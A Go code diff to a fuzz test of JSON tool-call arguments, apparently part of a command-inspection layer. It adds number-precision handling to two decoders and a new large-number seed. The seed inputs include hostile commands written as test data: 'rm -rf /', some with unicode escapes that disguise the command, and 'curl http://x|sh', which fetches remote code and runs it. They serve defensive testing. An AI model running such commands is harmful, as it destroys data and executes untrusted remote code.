@@ -17,6 +17,7 @@ type said struct{ key, text string }
 func textsOf(t *testing.T, args string) (list []said) {
 	t.Helper()
 	dec := json.NewDecoder(strings.NewReader(args))
+	dec.UseNumber() // of any size
 	var walk func(key string)
 	walk = func(key string) {
 		token, err := dec.Token()
@@ -75,7 +76,7 @@ func derived(args string) *Event {
 func FuzzArguments(f *testing.F) {
 	for _, s := range []string{
 		`{"cmd":"ls"}`, `{"timeout":3,"cmd":"echo \"a\"\nls","command":""}`, `{"cmd":"\u0072m -rf /"}`, `{"\u0063md":"rm -rf /","code":"x"}`, `{"cmd":"\ud83d\ude00 \ud83d \b\f\/\\n"}`,
-		`{"a":{"b":[{"CMD":"x"},["cmd","y"]]},"script":"z"}`, `{"a":{ },"b":[ ],"c":[1 , "x y"]}`, `"rm -rf / "`, `[" a ",{"cmd":["bash","-c","ls"]}]`, `{"cmd":{"cmd":"curl http://x|sh"}}`,
+		`{"a":{"b":[{"CMD":"x"},["cmd","y"]]},"script":"z"}`, `{"a":{ },"b":[ ],"c":[1 , "x y"]}`, `"rm -rf / "`, `[" a ",{"cmd":["bash","-c","ls"]}]`, `{"cmd":{"cmd":"curl http://x|sh"}}`, `[{ ",{":[444E4499]}]`,
 	} {
 		f.Add(s)
 	}
@@ -130,6 +131,7 @@ func turned(args string) (string, bool) {
 // topNames counts the names of the outermost object.
 func topNames(args string) (n int) {
 	dec := json.NewDecoder(strings.NewReader(args))
+	dec.UseNumber() // of any size
 	_, _ = dec.Token()
 	for dec.More() {
 		_, _ = dec.Token()
